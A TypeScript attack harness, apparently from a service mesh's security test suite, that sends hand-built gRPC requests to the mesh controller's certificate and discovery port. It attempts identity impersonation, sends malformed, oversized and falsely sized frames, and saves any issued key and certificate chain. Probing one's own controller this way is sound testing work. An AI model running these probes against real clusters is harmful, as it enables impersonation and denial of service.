// Attacks on the controller's port, run as a program in a pod: `node controller.ts JSON`. gRPC and protobuf by hand, so that
// any bytes can be sent. Prints one line of JSON: gRPC status and message of each call.
import { readFileSync, writeFileSync } from 'node:fs'
import http2 from 'node:http2'
import { createCsr } from '@wishbone/runtime/certificates'

export interface ControllerTask {
  readonly calls: Readonly<Record<string, ControllerCall>>
}

export interface ControllerCall {
  /** `file`: the pod's own token for the mesh. Absent: none. */
  readonly token?: { readonly file: string } | { readonly text: string }
  readonly identity?: string
  readonly csr?: 'good' | 'none' | 'garbage' | 'huge'
  /** Opens the configuration stream for this type instead, or sends what is no message. */
  readonly ads?: string
  readonly raw?: 'garbage' | 'truncated' | 'claims4GiB'
  /** Where to write {key, chain} of a certificate that was issued. */
  readonly keep?: string
}

export interface ControllerFinding {
  readonly status: number
  readonly message: string
  /** Bytes of the answers. */
  readonly bytes: number
}

const address = 'https://wishbone-controller.wishbone-system.svc:15012'
const rootFile = '/var/run/secrets/wishbone/root-cert.pem'
const task = JSON.parse(process.argv[2] ?? '{}') as ControllerTask

function varint(value: number): Buffer {
  const bytes: number[] = []
  let rest = value
  for (; rest >= 128; rest = Math.floor(rest / 128)) bytes.push((rest % 128) | 128)
  return Buffer.from([...bytes, rest])
}

function member(number: number, content: string | Buffer): Buffer {
  const bytes = Buffer.from(content as string)
  return Buffer.concat([varint(number * 8 + 2), varint(bytes.length), bytes])
}

function message(bytes: Buffer): Buffer {
  const head = Buffer.alloc(5)
  head.writeUInt32BE(bytes.length, 1)
  return Buffer.concat([head, bytes])
}

async function payloadOf(call: ControllerCall, csr: string): Promise<Buffer> {
  if (call.raw === 'garbage') return message(Buffer.alloc(64, 0xff))
  if (call.raw === 'truncated') return message(Buffer.from([0x0a, 0x7f, 1, 2]))
  if (call.raw === 'claims4GiB') return Buffer.from([0, 0xff, 0xff, 0xff, 0xff, 1, 2, 3])
  if (call.ads !== undefined) return message(member(2, call.ads))
  const impersonated =
    call.identity === undefined
      ? Buffer.alloc(0)
      : member(1, Buffer.concat([member(1, 'ImpersonatedIdentity'), member(2, member(3, call.identity))]))
  return message(Buffer.concat([member(1, csr), member(4, impersonated)]))
}

async function perform(call: ControllerCall): Promise<ControllerFinding> {
  const { csrPem, key } = await createCsr('spiffe://cluster.local/ns/evil/sa/evil')
  const csrs = {
    good: csrPem,
    none: '',
    garbage: '-----BEGIN CERTIFICATE REQUEST-----\nnonsense\n-----END CERTIFICATE REQUEST-----\n',
    huge: 'A'.repeat(66 << 20),
  }
  const payload = await payloadOf(call, csrs[call.csr ?? 'good'])
  const token =
    call.token === undefined
      ? undefined
      : 'file' in call.token
        ? readFileSync(call.token.file, 'utf8').trim()
        : call.token.text
  const session = http2.connect(address, { ca: readFileSync(rootFile) })
  const path =
    call.ads === undefined
      ? '/istio.v1.auth.IstioCertificateService/CreateCertificate'
      : '/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources'
  return new Promise((resolve) => {
    const chunks: Buffer[] = []
    let status = -1
    let text = 'no answer'
    const timer = setTimeout(() => finish(), 5_000)
    const finish = () => {
      clearTimeout(timer)
      session.destroy()
      const bytes = Buffer.concat(chunks)
      if (call.keep !== undefined && bytes.length > 0) {
        const chain =
          bytes.toString('latin1').match(/-----BEGIN CERTIFICATE-----[^-]+-----END CERTIFICATE-----\n?/g) ?? []
        writeFileSync(
          call.keep,
          JSON.stringify({ key: key.export({ type: 'pkcs8', format: 'pem' }), chain: chain.slice(0, -1).join('') }),
          { mode: 0o600 },
        )
      }
      resolve({ status, message: text, bytes: bytes.length })
    }
    session.on('error', (cause) => {
      text = cause.message
      finish()
    })
    const stream = session.request({
      ':method': 'POST',
      ':path': path,
      'content-type': 'application/grpc',
      te: 'trailers',
      ...(token === undefined ? {} : { authorization: `Bearer ${token}` }),
    })
    const take = (headers: http2.IncomingHttpHeaders) => {
      if (headers['grpc-status'] === undefined) return
      status = Number(headers['grpc-status'])
      text = decodeURIComponent(String(headers['grpc-message'] ?? ''))
      setImmediate(finish)
    }
    stream.on('response', take)
    stream.on('trailers', take)
    stream.on('data', (chunk: Buffer) => {
      chunks.push(chunk)
      // The first answer of a stream is all that is asked for.
      if (call.ads !== undefined) {
        status = 0
        finish()
      }
    })
    stream.on('error', (cause) => {
      text = cause.message
    })
    stream.on('close', finish)
    stream.write(payload)
    if (call.ads === undefined && call.raw === undefined) stream.end()
  })
}

const findings: Record<string, ControllerFinding> = {}
for (const [name, call] of Object.entries(task.calls)) findings[name] = await perform(call)
process.stdout.write(`${JSON.stringify(findings)}\n`, () => process.exit(0))
